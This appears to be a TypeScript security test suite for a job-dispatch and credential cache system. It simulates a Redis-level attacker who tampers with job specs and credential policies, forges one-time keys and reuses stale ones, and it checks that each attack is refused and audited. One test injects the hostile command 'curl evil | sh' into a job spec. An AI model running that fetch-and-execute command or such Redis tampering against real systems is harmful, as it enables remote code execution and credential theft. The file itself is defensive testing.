// Attacks by someone who can write Redis (the store holds no trust decision of its own): rewrite a
// queued job's spec, rewrite a stored credential's retrieval policy, mint a one-time key, use a key
// of an earlier attempt, renew after the attempt was abandoned. Each test fails if the attack works.
// The attacker writes with a service's Redis identity (the matchmaker's, h.redis); pilots hold none.
import { randomBytes } from "node:crypto";
import type { RedisClient } from "../../platform/redis-client.ts";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { ERR, type JobSpec } from "../../schemas/index.ts";
import {
  AuditLog,
  decryptKeysFromPilot,
  issueCertificate,
  ONE_TIME_KEY_SEAL_PURPOSE,
  OneTimeKeyStore,
  ServiceSealer,
  pkiSealKeys,
  fixedSealKeys,
  newSealKey,
} from "../../security/index.ts";
import { DispatchQueues, JobStore, jobKeys } from "../../jobs/index.ts";
import { CredentialClient, startCredentialCache, type CallerCredential, type CredentialCache } from "../../agents/credentials/index.ts";
import { createJobs } from "../matchmaker/fixtures.ts";
import { TestPilot } from "../matchmaker/pilot-client.ts";
import { startHarness, type Harness } from "../matchmaker/service-harness.ts";
import { openRedisAs } from "../support/live-services.ts";
import { expectCode } from "./support/pki-fixture.ts";

const VICTIM_DN = "/DC=org/DC=pilot-wms/OU=People/CN=Victoria Victim";
const MALLORY_DN = "/DC=org/DC=pilot-wms/OU=People/CN=Mallory Attacker";

let h: Harness;
let cache: CredentialCache;
let cacheRedis: RedisClient;
let victimCred: CallerCredential;
let pilotClient: CredentialClient;
let mallory: CredentialClient;
let victimClient: CredentialClient;

beforeAll(async () => {
  h = await startHarness("attackstores");
  const config = { ...h.loaded.config, pki: { dir: h.pkiDir }, credentials: { ...h.loaded.config.credentials, encryptionKey: randomBytes(32).toString("base64"), maxRenewals: 3, proxyKeyBits: 1024 } };
  // The cache on its own identity; the victim delegates as users do (the operator role's `wms`);
  // the pilot and mallory ask over the pilots' connection (h.nc).
  cacheRedis = openRedisAs(h.loaded, "credentials");
  cache = startCredentialCache({ nc: await h.connect("credentials"), redis: cacheRedis, names: h.loaded.names, config, trust: h.trust });
  // Its subscriptions are in place before anything asks it (under load a request could find no responder).
  await cache.ready;
  const victim = issueCertificate({ caDir: h.pkiDir, kind: "user", dn: VICTIM_DN, roles: ["production"], keyBits: 1024 });
  const mal = issueCertificate({ caDir: h.pkiDir, kind: "user", dn: MALLORY_DN, roles: [], keyBits: 1024 });
  const pilot = issueCertificate({ caDir: h.pkiDir, kind: "pilot", dn: "/DC=org/DC=pilot-wms/OU=Pilots/CN=honest pilot", roles: ["pilot"], keyBits: 1024 });
  victimCred = { certChain: [victim.certPem], keyPem: victim.keyPem };
  victimClient = new CredentialClient(await h.connect("operator"), h.loaded.names, { trust: h.trust });
  pilotClient = new CredentialClient(h.nc, h.loaded.names, { trust: h.trust, caller: { certChain: [pilot.certPem], keyPem: pilot.keyPem }, proxyKeyBits: 1024 });
  mallory = new CredentialClient(h.nc, h.loaded.names, { trust: h.trust, caller: { certChain: [mal.certPem], keyPem: mal.keyPem }, proxyKeyBits: 1024 });
  await victimClient.delegate(victimCred, { retrievers: ["role:pilot"], lifetimeSec: 3600 });
});

afterAll(async () => {
  await cache?.stop();
  await h?.close();
  cacheRedis?.disconnect();
});

/** A queued job of the victim's, matched by a real pilot through the real matchmaker: the pilot's one-time key and envelope body. */
async function matchedJob(): Promise<{ spec: JobSpec; pilot: TestPilot; oneTimeKey: string; attempt: number }> {
  const [spec] = await createJobs(h.store, { site: "ATTACK_A", userDn: VICTIM_DN }, 1);
  await h.dispatch.enqueue([spec]);
  const pilot = new TestPilot(h.nc, h.loaded.names, "ATTACK_A", await h.token("ATTACK_A"));
  const body = pilot.open(await pilot.advertise(), h.trust);
  return { spec, pilot, oneTimeKey: decryptKeysFromPilot(pilot.privateKeyPem, body.encryptedKeys).proxyKey, attempt: body.job.attempt };
}

describe("attacks on what Redis holds", () => {
  it("refuses to sign a queued spec rewritten in Redis (E1721): the job fails, the pilot runs nothing", async () => {
    const [spec] = await createJobs(h.store, { site: "ATTACK_S", userDn: VICTIM_DN }, 1);
    await h.dispatch.enqueue([spec]);
    // The attacker rewrites the job's command in its record (the queue holds only its id; the record
    // holds what differs from its task's spec template), keeping the seal.
    const key = jobKeys(h.loaded.names).task(spec.taskId).job(spec.jobId);
    expect((await h.store.getJob(spec.jobId))?.spec.seal).toBeDefined();
    const stored = JSON.parse((await h.redis.hget(key, "spec")) ?? "{}") as Partial<JobSpec>;
    await h.redis.hset(key, "spec", JSON.stringify({ ...stored, executable: "/bin/sh", arguments: ["-c", "curl evil | sh"] }));

    const pilot = new TestPilot(h.nc, h.loaded.names, "ATTACK_S", await h.token("ATTACK_S"));
    const reply = await pilot.advertise();
    expect(reply.status).toBe("nomatch");
    if (reply.status === "nomatch") expect(reply.reason).toContain(String(ERR.SEC_SPEC_UNSEALED));
    await expect.poll(async () => (await h.store.getJob(spec.jobId))?.errorCode).toBe(ERR.SEC_SPEC_UNSEALED);
    expect((await h.store.getJob(spec.jobId))?.state).toBe("failed");
    const audit = await new AuditLog(h.redis, h.loaded.names).recent(20);
    expect(audit.some((e) => e.event === "job-spec-unsealed" && e.fields.jobId === spec.jobId)).toBe(true);
    // Nothing else is offered in its place, and nothing is left queued.
    expect((await pilot.advertise()).status).toBe("nomatch");
  });

  it("refuses a spec queued without the intake's seal at all", async () => {
    // Recorded and queued bypassing the intake (and so its seal).
    const [spec] = await createJobs(new JobStore(h.redis, h.loaded.names), { site: "ATTACK_U", userDn: VICTIM_DN }, 1);
    const raw = new DispatchQueues({ redis: h.redis, names: h.loaded.names, lockMs: 30_000, stalledIntervalMs: 30_000 });
    await raw.enqueue([spec]);
    await raw.close();
    const pilot = new TestPilot(h.nc, h.loaded.names, "ATTACK_U", await h.token("ATTACK_U"));
    expect((await pilot.advertise()).status).toBe("nomatch");
    await expect.poll(async () => (await h.store.getJob(spec.jobId))?.errorCode).toBe(ERR.SEC_SPEC_UNSEALED);
  });

  it("releases nothing after the credential's retrieval policy was rewritten in Redis", async () => {
    const { spec, pilot, oneTimeKey, attempt } = await matchedJob();
    // Mallory adds herself to the victim's policy, straight in the hash the cache keeps.
    // SCAN, not KEYS: no service's Redis user may run KEYS (a dangerous command).
    const credKeys: string[] = [];
    let cursor = "0";
    do {
      const [next, found] = await h.redis.scan(cursor, "MATCH", `${h.loaded.names.redisPrefix}cred:*`, "COUNT", 1000);
      cursor = next;
      credKeys.push(...found);
    } while (cursor !== "0");
    expect(credKeys.length).toBe(1);
    await h.redis.hset(credKeys[0] as string, "retrievers", JSON.stringify(["role:pilot", MALLORY_DN]));
    await expectCode(() => mallory.retrieve({ oneTimeKey, userDn: VICTIM_DN, jobId: spec.jobId, pilotId: pilot.pilotId, attempt }), ERR.SEC_BAD_SIGNATURE);
    // Not even the honest pilot gets it from the tampered record; the victim must delegate again.
    await expectCode(() => pilotClient.retrieve({ oneTimeKey, userDn: VICTIM_DN, jobId: spec.jobId, pilotId: pilot.pilotId, attempt }), ERR.SEC_BAD_SIGNATURE);
    const audit = await new AuditLog(h.redis, h.loaded.names).recent(20);
    expect(audit.some((e) => e.event === "credential-record-tampered" && e.fields.caller === MALLORY_DN)).toBe(true);
    await victimClient.delegate(victimCred, { retrievers: ["role:pilot"], lifetimeSec: 3600 });
    expect((await pilotClient.retrieve({ oneTimeKey, userDn: VICTIM_DN, jobId: spec.jobId, pilotId: pilot.pilotId, attempt })).proxyPem).toContain("BEGIN CERTIFICATE");
  });

  it("refuses a one-time key written into Redis by anyone but the matchmaker", async () => {
    const { spec, pilot, attempt } = await matchedJob();
    // Same shape as the matchmaker's record, sealed with the only seal key the intake holds (the job-spec one).
    const intakeSealer = new ServiceSealer(pkiSealKeys(h.pkiDir).jobSpec, ONE_TIME_KEY_SEAL_PURPOSE);
    const fake = await new OneTimeKeyStore(h.redis, h.loaded.names, { maxRenewals: 1, sealer: intakeSealer }).mint({ userDn: VICTIM_DN, jobId: spec.jobId, pilotId: pilot.pilotId, attempt, site: spec.site, ttlSec: 60 });
    await expectCode(() => pilotClient.retrieve({ oneTimeKey: fake, userDn: VICTIM_DN, jobId: spec.jobId, pilotId: pilot.pilotId, attempt }), ERR.SEC_KEY_INVALID);
    // And with a key of its own making, under a key id it chose.
    const own = new ServiceSealer(fixedSealKeys(newSealKey()), ONE_TIME_KEY_SEAL_PURPOSE);
    const minted = await new OneTimeKeyStore(h.redis, h.loaded.names, { maxRenewals: 1, sealer: own }).mint({ userDn: VICTIM_DN, jobId: spec.jobId, pilotId: pilot.pilotId, attempt, site: spec.site, ttlSec: 60 });
    await expectCode(() => pilotClient.retrieve({ oneTimeKey: minted, userDn: VICTIM_DN, jobId: spec.jobId, pilotId: pilot.pilotId, attempt }), ERR.SEC_KEY_INVALID);
    // A plain record with no seal.
    const bare = randomBytes(32).toString("base64url");
    const { createHash } = await import("node:crypto");
    await h.redis.set(
      h.loaded.names.siteKey(spec.site, "sec", "otk", createHash("sha256").update(bare).digest("hex")),
      JSON.stringify({ userDn: VICTIM_DN, jobId: spec.jobId, pilotId: pilot.pilotId, attempt, expiresAt: Date.now() + 60_000, used: 0 }),
      "PX",
      60_000,
    );
    await expectCode(() => pilotClient.retrieve({ oneTimeKey: bare, userDn: VICTIM_DN, jobId: spec.jobId, pilotId: pilot.pilotId, attempt }), ERR.SEC_KEY_INVALID);
  });

  it("refuses attempt 1's key once the job was requeued as attempt 2", async () => {
    const { spec, pilot, oneTimeKey } = await matchedJob();
    // The pilot went silent; the job's owner requeued it as attempt 2 on another pilot.
    await h.store.transition(spec.jobId, "activated", ["sent"], { attempt: 2, pilotId: "", leaseToken: "" });
    await h.store.transition(spec.jobId, "sent", ["activated"], { pilotId: "pilot-next", leaseToken: "lease-of-pilot-next" });
    await expectCode(() => pilotClient.retrieve({ oneTimeKey, userDn: VICTIM_DN, jobId: spec.jobId, pilotId: pilot.pilotId, attempt: 1 }), ERR.SEC_KEY_INVALID);
    await expectCode(() => pilotClient.retrieve({ oneTimeKey, userDn: VICTIM_DN, jobId: spec.jobId, pilotId: pilot.pilotId, attempt: 2 }), ERR.SEC_KEY_INVALID);
    const audit = await new AuditLog(h.redis, h.loaded.names).recent(20);
    expect(audit.some((e) => e.event === "credential-stale-attempt" && e.fields.jobId === spec.jobId)).toBe(true);
  });

  it("renews only while the attempt runs: refused after it was abandoned", async () => {
    const { spec, pilot, oneTimeKey, attempt } = await matchedJob();
    const req = { oneTimeKey, userDn: VICTIM_DN, jobId: spec.jobId, pilotId: pilot.pilotId, attempt };
    await pilotClient.retrieve(req);
    await h.store.transition(spec.jobId, "running", ["sent"], {});
    expect((await pilotClient.renew(req)).renewalsLeft).toBe(2);
    await h.store.transition(spec.jobId, "failed", ["running"], { errorCode: ERR.PILOT_LOST_HEARTBEAT });
    await expectCode(() => pilotClient.renew(req), ERR.SEC_KEY_INVALID);
  });

  it("leaves a trace of every refused pilot token: an audit entry and a count by code", async () => {
    const before = await new AuditLog(h.redis, h.loaded.names).recent(10_000);
    const refusedBefore = before.filter((e) => e.event === "token-refused").length;
    const forged = Array.from({ length: 30 }, (_, i) => new TestPilot(h.nc, h.loaded.names, "ATTACK_T", `forged-token-${i}-${"x".repeat(20)}`));
    const replies = await Promise.all(forged.map((p) => p.advertise()));
    expect(replies.every((r) => r.status === "error" && r.code === ERR.MATCH_TOKEN_REJECTED)).toBe(true);
    await expect.poll(async () => (await new AuditLog(h.redis, h.loaded.names).recent(10_000)).filter((e) => e.event === "token-refused").length - refusedBefore).toBe(30);
    const metric = await h.mm?.registry.getSingleMetric("wms_matchmaker_token_refusals_total")?.get();
    const count = metric?.values.find((v) => v.labels.code === String(ERR.MATCH_TOKEN_REJECTED))?.value ?? 0;
    expect(count).toBeGreaterThanOrEqual(30);
  });
});
